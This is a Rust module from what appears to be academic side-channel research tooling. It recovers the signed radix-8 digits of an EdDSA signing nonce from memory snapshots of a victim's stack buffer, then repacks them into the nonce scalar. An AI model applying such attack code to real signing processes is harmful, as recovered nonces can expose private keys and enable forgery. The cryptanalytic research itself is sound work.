// Copyright (C) 2025 FZI Forschungszentrum Informatik
// SPDX-License-Identifier: Apache-2.0
//! Signed radix 8 digits of the nonce
//!
//! The victim splits the reduced nonce into [`DIGITS`] signed digits in
//! `[-4, 3]` and processes one digit per main loop iteration. The magnitude
//! and sign of each digit determine which precomputed table entry is selected
//! by a sequence of conditional moves, each of which is observable as a
//! change of the stack buffer.

use std::collections::BTreeSet;

use crate::config::EddsaAttack;
use crate::scanner;

use super::Error;

/// Number of digits of a 32 byte scalar
pub const DIGITS: usize = 85;

/// Signed digits of a scalar, least significant first
pub type Digits = [i8; DIGITS];

/// Snapshot pairs per main loop iteration used for recovering a digit
///
/// The first three pairs correspond to the magnitudes 1 to 3, the fourth to
/// the digit -4 and the fifth to a negative sign.
pub const PAIRS: usize = 5;

const MAGNITUDES: [i8; PAIRS - 1] = [1, 2, 3, -4];
const SIGN_PAIR: usize = PAIRS - 1;

/// Layout of the snapshots of an EdDSA capture
#[derive(Copy, Clone, Debug, PartialEq, Eq)]
pub struct Layout {
    /// Snapshots per main loop iteration
    pub accesses_per_cycle: usize,
    /// Main loop iterations
    pub cycles: usize,
    /// Alignment of candidate offsets
    pub alignment: usize,
    /// Bytes compared at each offset
    pub window: usize,
}

impl From<&EddsaAttack> for Layout {
    fn from(attack: &EddsaAttack) -> Self {
        Self {
            accesses_per_cycle: attack.mem_accesses_per_cycle,
            cycles: attack.main_loop_cycles,
            alignment: attack.stack_buf_alignment,
            window: attack.stack_buf_bytes,
        }
    }
}

impl Layout {
    /// Number of snapshots required by this layout
    pub fn snapshots(&self) -> usize {
        self.accesses_per_cycle * self.cycles
    }

    /// Check that this layout is usable for the given number of snapshots
    pub fn check(&self, snapshots: usize) -> Result<(), Error> {
        if self.accesses_per_cycle < 2 * PAIRS
            || self.cycles == 0
            || self.cycles > DIGITS
            || self.alignment == 0
            || self.window == 0
        {
            return Err(Error::InvalidLayout(*self));
        }
        if snapshots < self.snapshots() {
            return Err(Error::TooFewSnapshots(snapshots, self.snapshots()));
        }
        Ok(())
    }

    /// Snapshots of a single main loop iteration
    fn cycle<'a>(&self, snapshots: &'a [&'a [u8]], cycle: usize) -> &'a [&'a [u8]] {
        let base = cycle * self.accesses_per_cycle;
        &snapshots[base..base + self.accesses_per_cycle]
    }
}

/// Collect all offsets changing between adjacent snapshots of an iteration
///
/// The layout must have been [checked][Layout::check] against the snapshots.
pub fn candidate_offsets(snapshots: &[&[u8]], layout: &Layout) -> BTreeSet<usize> {
    let pairs = (0..layout.cycles)
        .flat_map(|c| layout.cycle(snapshots, c).windows(2))
        .map(|w| (w[0], w[1]));
    scanner::collect_offsets(pairs, layout.alignment, layout.window)
}

/// Recover the signed digits from the stack buffer at `offset`
///
/// The digit of the first iteration is not observable and left at zero. Digits
/// beyond the layout's iterations are zero as well. Returns [`None`] if more
/// than one magnitude pair changed in any iteration. The layout must have been
/// [checked][Layout::check] against the snapshots.
pub fn recover_signed(offset: usize, snapshots: &[&[u8]], layout: &Layout) -> Option<Digits> {
    let mut digits = [0; DIGITS];
    for (cycle, digit) in digits.iter_mut().enumerate().take(layout.cycles).skip(1) {
        let snaps = layout.cycle(snapshots, cycle);
        let changed = |pair: usize| {
            scanner::differs(snaps[2 * pair], snaps[2 * pair + 1], offset, layout.window)
        };

        let mut found = None;
        for (pair, magnitude) in MAGNITUDES.into_iter().enumerate() {
            if changed(pair) {
                if found.is_some() {
                    log::trace!("Ambiguous digit {cycle} at offset {offset:#05x}");
                    return None;
                }
                found = Some(magnitude);
            }
        }
        *digit = match found {
            Some(-4) => -4,
            Some(m) if changed(SIGN_PAIR) => -m,
            Some(m) => m,
            None => 0,
        };
    }
    Some(digits)
}

/// Split a 32 byte little endian scalar into signed radix 8 digits
pub fn window3(scalar: &[u8; 32]) -> Digits {
    let mut digits = [0i8; DIGITS];
    for (i, digit) in digits.iter_mut().enumerate() {
        let bit = 3 * i;
        let pair =
            u16::from(scalar[bit / 8]) | scalar.get(bit / 8 + 1).map_or(0, |b| u16::from(*b) << 8);
        *digit = ((pair >> (bit % 8)) & 7) as i8;
    }

    let mut carry = 0;
    for i in 0..DIGITS - 1 {
        digits[i] += carry;
        digits[i + 1] += digits[i] >> 3;
        digits[i] &= 7;
        carry = digits[i] >> 2;
        digits[i] -= carry << 3;
    }
    digits[DIGITS - 1] += carry;
    digits
}

/// Convert signed digits into unsigned digits in `[0, 7]`
///
/// This inverts the signing step of [`window3`]: all digits below the first
/// negative one are copied, the remaining ones are converted by propagating
/// the borrow upwards.
pub fn signed_to_unsigned(signed: &[i8]) -> Vec<i8> {
    let Some(first) = signed.iter().position(|d| *d < 0) else {
        return signed.to_vec();
    };
    let mut unsigned = signed.to_vec();
    unsigned[first] = signed[first] + 8;

    let mut overflow = 0;
    let mut borrow = 1;
    for i in first + 1..signed.len() {
        let digit = match signed[i] {
            0 if overflow + borrow == 0 => {
                borrow = 0;
                0
            }
            0 => {
                borrow = 1;
                7
            }
            d if d > 0 => {
                let digit = d - overflow - borrow;
                borrow = 0;
                digit
            }
            d => {
                let digit = d - overflow - borrow + 8;
                borrow = 1;
                digit
            }
        };
        overflow = digit >> 3;
        unsigned[i] = digit & 7;
    }
    unsigned
}

/// Pack unsigned radix 8 digits into a 32 byte little endian scalar
///
/// Bits beyond the 255th are dropped.
pub fn pack(unsigned: &[i8]) -> [u8; 32] {
    let mut packed = [0u8; 32];
    for (i, digit) in unsigned.iter().enumerate().take(DIGITS) {
        let bit = 3 * i;
        let bits = u16::from(*digit as u8 & 7) << (bit % 8);
        packed[bit / 8] |= bits as u8;
        if let Some(next) = packed.get_mut(bit / 8 + 1) {
            *next |= (bits >> 8) as u8;
        }
    }
    packed
}
